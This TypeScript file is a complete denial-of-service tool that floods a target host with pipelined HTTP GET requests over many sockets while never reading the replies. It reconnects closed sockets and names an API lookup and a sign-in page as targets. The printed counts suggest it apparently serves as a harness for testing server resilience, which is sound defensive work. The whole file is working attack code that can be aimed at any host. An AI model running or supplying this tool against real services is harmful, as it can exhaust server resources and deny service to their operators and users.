/**
 * The non-reading pipeline attack: `sockets` connections from `localAddress`, each writing batches of
 * pipelined keyless GETs as fast as the socket takes them and never reading an answer. A socket the
 * server closes is replaced. Writing waits for 'drain' once the socket's buffer is full, so the
 * attacker's own memory stays small. Prints `attacking` once every socket is connected (the attack's
 * `seconds` start then), and its counts as JSON when the time is up.
 *
 * Usage: pipeline-attacker.ts <host> <port> <sockets> <seconds> <local address> [path]
 * (the path defaults to a keyless API lookup; the portal's sign-in page is another target).
 */
import { connect, type Socket } from 'node:net';
import { setImmediate as nextTurn } from 'node:timers/promises';

const [host, port, sockets, seconds, localAddress, path = '/api/v1/public/sku/X'] = process.argv.slice(2) as [string, string, string, string, string, string?];
const REQUESTS_PER_WRITE = 64;
const DRAIN_WAIT_MS = 1_000;
/** Before replacing a socket the server closed; bounds the reconnect loop. */
const REOPEN_PAUSE_MS = 100;
const CONNECT_WAIT_MS = 5_000;

// The listener's own address as Host, which every listener answers.
const batch = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`.repeat(REQUESTS_PER_WRITE));
const live = new Set<Socket>();
const counts = { opened: 0, connected: 0, closedByServer: 0, failedToConnect: 0, requestsWritten: 0 };
let stopping = false;

function drainOrTimeout(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      clearTimeout(timer);
      socket.off('drain', done);
      socket.off('close', done);
      resolve();
    };
    const timer = setTimeout(done, DRAIN_WAIT_MS);
    socket.once('drain', done);
    socket.once('close', done);
  });
}

async function pump(socket: Socket): Promise<void> {
  while (!stopping && !socket.destroyed) {
    const roomLeft = socket.write(batch);
    counts.requestsWritten += REQUESTS_PER_WRITE;
    // Yield either way: while the kernel takes every write at once, write() never returns false.
    if (roomLeft) await nextTurn();
    else await drainOrTimeout(socket);
  }
}

function open(): void {
  if (stopping) return;
  const socket = connect({ host, port: Number(port), localAddress });
  socket.pause(); // never read an answer
  counts.opened += 1;
  live.add(socket);
  let connected = false;
  socket.on('connect', () => {
    connected = true;
    counts.connected += 1;
    if (counts.connected === Number(sockets)) allConnected();
    void pump(socket);
  });
  socket.on('error', () => undefined); // counted on 'close'
  socket.on('close', () => {
    live.delete(socket);
    if (stopping) return;
    if (connected) counts.closedByServer += 1;
    else counts.failedToConnect += 1;
    setTimeout(open, REOPEN_PAUSE_MS);
  });
}

let allConnected = (): void => undefined;
const connecting = new Promise<void>((resolve) => {
  allConnected = resolve;
});
for (let i = 0; i < Number(sockets); i += 1) open();
// A server that stops accepting must not keep the attack from starting.
await Promise.race([connecting, new Promise((r) => setTimeout(r, CONNECT_WAIT_MS))]);
process.stdout.write('attacking\n');
await new Promise((r) => setTimeout(r, Number(seconds) * 1000));
stopping = true;
for (const socket of live) socket.destroy();
process.stdout.write(JSON.stringify(counts));
process.exit(0);
